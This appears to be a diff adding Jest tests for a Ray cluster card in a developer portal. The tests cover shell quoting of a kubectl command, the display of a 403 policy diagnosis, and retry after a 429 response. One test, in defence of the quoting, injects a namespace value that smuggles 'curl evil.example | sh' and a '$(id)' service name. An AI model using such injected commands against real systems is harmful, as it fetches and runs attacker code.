@@ -351,6 +351,113 @@ describe('RayClusterCard', () => {
   });
 });
 
+describe('RayClusterCard and RayClusterContent, with hostile or refused entities', () => {
+  it('quotes the copyable kubectl command for a POSIX shell', async () => {
+    const stream = streamingFetch();
+    render(<RayClusterCard />, stream.fetch);
+    stream.send({
+      ...ready,
+      namespace: "syntho'; curl evil.example | sh #",
+      service: { ...ready.service, name: '$(id)' },
+    });
+    expect(
+      await screen.findByText(
+        "kubectl -n 'syntho'\\''; curl evil.example | sh #' port-forward 'svc/$(id)' 8265:8265",
+      ),
+    ).toBeInTheDocument();
+  });
+
+  /** The backend's answer for an entity whose annotations name a namespace the policy does not allow. */
+  const notAllowed = {
+    ok: false,
+    status: 403,
+    statusText: 'Forbidden',
+    headers: new Map([['content-type', 'application/json']]),
+    text: async () =>
+      JSON.stringify({
+        error: { name: 'NotAllowedError', message: 'not watched' },
+        response: { statusCode: 403 },
+        diagnoses: [
+          {
+            id: 'target-not-allowed',
+            severity: 'error',
+            title:
+              "The policy does not allow the entity's syntho.ai/ray-namespace",
+            message:
+              'The annotation syntho.ai/ray-namespace ("kube-system") is not one of the namespaces the platform policy allows on aks; nothing is read from any cluster for this entity.',
+            evidence: [
+              {
+                kind: 'Annotation',
+                name: 'syntho.ai/ray-namespace',
+                reason: 'NotAllowed',
+              },
+            ],
+            fix: 'Set syntho.ai/ray-namespace to one of "syntho".',
+          },
+        ],
+      }),
+  };
+
+  it.each([
+    ['card', <RayClusterCard />],
+    ['tab', <RayClusterContent />],
+  ])(
+    'shows the %s the diagnosis of an entity whose cluster is not watched, and does not retry',
+    async (_name, element) => {
+      const fetch = jest.fn(async () => notAllowed);
+      render(element, fetch as any);
+
+      expect(
+        await screen.findByTestId('diagnosis-target-not-allowed'),
+      ).toHaveTextContent(
+        'Fix: Set syntho.ai/ray-namespace to one of "syntho".',
+      );
+      expect(
+        screen.getByText(
+          "The policy does not allow the entity's syntho.ai/ray-namespace",
+        ),
+      ).toBeInTheDocument();
+      expect(screen.queryByText(/could not be read/)).toBeNull();
+      expect(fetch).toHaveBeenCalledTimes(1);
+    },
+  );
+
+  it('tries again after a 429 (too many streams), when its Retry-After says', async () => {
+    const stream = streamingFetch();
+    const tooMany = {
+      ok: false,
+      status: 429,
+      statusText: 'Too Many Requests',
+      headers: new Map([
+        ['content-type', 'application/json'],
+        ['retry-after', '1'],
+      ]),
+      text: async () =>
+        JSON.stringify({
+          error: {
+            name: 'TooManyRequestsError',
+            message: 'You already have 20 status streams open',
+          },
+          response: { statusCode: 429 },
+        }),
+    };
+    let calls = 0;
+    const fetch = jest.fn(async (url: string) =>
+      ++calls === 1 ? tooMany : stream.fetch(url),
+    );
+    render(<RayClusterCard />, fetch as any);
+
+    expect(
+      await screen.findAllByText(/You already have 20 status streams open/),
+    ).not.toHaveLength(0);
+    await waitFor(() => expect(fetch).toHaveBeenCalledTimes(2), {
+      timeout: 3000,
+    });
+    stream.send(ready);
+    expect(await screen.findByTestId('ray-verdict')).toHaveTextContent('Ready');
+  });
+});
+
 describe('RayClusterContent', () => {
   it('lists pods per group, the Service ports, diagnoses with fixes and warning events', async () => {
     const stream = streamingFetch();
